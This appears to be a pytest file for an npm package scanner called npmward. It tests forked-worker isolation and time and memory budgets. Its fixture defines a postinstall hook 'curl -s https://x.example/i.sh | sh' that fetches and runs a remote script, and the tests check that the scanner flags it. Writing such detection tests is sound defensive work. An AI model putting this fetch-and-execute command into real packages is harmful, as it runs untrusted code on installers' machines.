"""One package that needs a worker — `npmward scan X.tgz` — is analysed in a plain fork of this
process instead of a worker started from a fork server, and that worker keeps every worker's
budgets: over its time it is stopped and reported incomplete (never clean), over its memory it is
reported, and the limits bind the worker, not this process."""

from __future__ import annotations

import json
import resource
import subprocess
import sys
import threading

import pytest

from npmward import engine
from npmward.engine import INCOMPLETE_RULE, Job, default_analyzer_names, run_jobs
from npmward.package import sri_sha512
from npmward.settings import Settings
from registry.registry_server import build_tarball

HOOK = {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}


def _job(files: dict, name: str = "one-package", manifest: dict | None = None) -> Job:
    data = build_tarball({"package.json": json.dumps({"name": name, "version": "1.0.0", **(manifest or {})}), **files})
    return Job(target=name, source=f"tarball:{name}.tgz", tarball=data, integrity=sri_sha512(data))


def _run(jobs, settings):
    names = default_analyzer_names()
    return {index: (analysed, entries) for index, analysed, entries in run_jobs(jobs, names, settings, lambda job: {})}


@pytest.fixture
def start_methods(monkeypatch) -> list[str]:
    """The start method of every worker context the engine creates, in order."""
    seen: list[str] = []
    real = engine._worker_context

    def spy(*args, **kwargs):
        context = real(*args, **kwargs)
        seen.append(context.get_start_method())
        return context

    monkeypatch.setattr(engine, "_worker_context", spy)
    return seen


@pytest.fixture
def single_threaded(monkeypatch) -> None:
    """A process with no other thread, as `npmward scan X.tgz` is. pytest-xdist keeps an I/O thread
    in each of its worker processes, which the engine would (rightly) refuse to fork beside."""
    monkeypatch.setattr(threading, "active_count", lambda: 1)


def test_one_package_is_analysed_in_a_fork_of_this_process(tmp_path, single_threaded, start_methods):
    analysed, entries = _run([_job({"index.js": "module.exports = 1;\n"}, manifest=HOOK)],
                             Settings(cache_dir=tmp_path, jobs=2))[0]
    assert start_methods == ["fork"]
    assert analysed.id.name == "one-package" and analysed.error is None
    assert "install-script/fetch-and-execute" in {f.rule for f in analysed.findings}
    assert INCOMPLETE_RULE not in {f.rule for f in analysed.findings}
    assert entries  # a complete analysis is cached


def test_one_forked_package_over_its_time_budget_is_incomplete_not_clean(tmp_path, single_threaded, start_methods):
    code = "".join(f"function f{i}(a) {{ return a + {i} * Math.max(a, {i}); }}\n" for i in range(12_000))
    job = _job({f"lib/part{n}.js": code for n in range(40)}, manifest=HOOK)
    analysed, entries = _run([job], Settings(cache_dir=tmp_path, jobs=1, package_seconds=1.0))[0]
    assert start_methods == ["fork"]
    rules = {f.rule for f in analysed.findings}
    assert "install-script/fetch-and-execute" in rules and INCOMPLETE_RULE in rules
    incomplete = next(f for f in analysed.findings if f.rule == INCOMPLETE_RULE)
    assert "time budget of 1 s" in incomplete.message and "code" in incomplete.details["analyzers"]
    assert entries == {}


def test_one_forked_package_over_its_memory_budget_is_reported_and_this_process_is_not_limited(
        tmp_path, single_threaded, start_methods):
    before = resource.getrlimit(resource.RLIMIT_AS)
    big = "x = [" + ",".join(["'" + "y" * 50 + "'"] * 200_000) + "];\n"
    analysed, _ = _run([_job({"index.js": big})], Settings(cache_dir=tmp_path, jobs=1, package_memory_mb=4))[0]
    assert start_methods == ["fork"]
    assert analysed.error or any(f.rule == INCOMPLETE_RULE for f in analysed.findings)
    assert resource.getrlimit(resource.RLIMIT_AS) == before


def test_beside_another_thread_the_one_worker_comes_from_the_fork_server(tmp_path, start_methods):
    stop = threading.Event()
    other = threading.Thread(target=stop.wait, daemon=True)
    other.start()
    try:
        analysed, _ = _run([_job({"index.js": "module.exports = 1;\n"})], Settings(cache_dir=tmp_path, jobs=1))[0]
    finally:
        stop.set()
        other.join()
    assert start_methods == ["forkserver"]
    assert analysed.id.name == "one-package"


def test_several_packages_share_workers_from_the_fork_server(tmp_path, single_threaded, start_methods):
    jobs = [_job({"index.js": f"module.exports = {i};\n"}, name=f"pkg-{i}") for i in range(3)]
    results = _run(jobs, Settings(cache_dir=tmp_path, jobs=2))
    assert start_methods == ["forkserver"]
    assert sorted(results[i][0].id.name for i in results) == ["pkg-0", "pkg-1", "pkg-2"]


def test_scan_of_one_tarball_forks_once_and_imports_no_network_store_or_crypto_stack(tmp_path):
    """The whole command in a fresh interpreter, as a user runs it: one fork, no fetch thread, and
    none of the libraries a local tarball does not need (they cost most of a short run's time); the
    code analysis and the install-script patterns are imported by the forked worker that reads the package, not by
    the CLI process."""
    tarball = tmp_path / "one-package.tgz"
    tarball.write_bytes(build_tarball({"package.json": json.dumps({"name": "one-package", "version": "1.0.0", **HOOK}),
                                       "index.js": "module.exports = 1;\n"}))
    script = """
import json, sys
from npmward import engine
from npmward.cli import app
seen = []
real = engine._worker_context
def spy(*args, **kwargs):
    context = real(*args, **kwargs)
    seen.append(context.get_start_method())
    return context
engine._worker_context = spy
try:
    app(["scan", "--format", "json", "--fail-on", "never", sys.argv[1]])
except SystemExit as exc:
    code = exc.code
heavy = sorted(m for m in ("sqlalchemy", "httpx", "cryptography", "yaml", "pydantic", "concurrent.futures",
                          "npmward.analyzers.code.analysis", "npmward.analyzers.install_scripts") if m in sys.modules)
print(json.dumps({"code": code, "start_methods": seen, "heavy": heavy}), file=sys.stderr)
"""
    run = subprocess.run([sys.executable, "-c", script, str(tarball)], capture_output=True, text=True, timeout=120)
    outcome = json.loads(run.stderr.strip().splitlines()[-1])
    report = json.loads(run.stdout)
    assert outcome == {"code": 0, "start_methods": ["fork"], "heavy": []}
    assert "install-script/fetch-and-execute" in {f["rule"] for p in report["packages"] for f in p["findings"]}
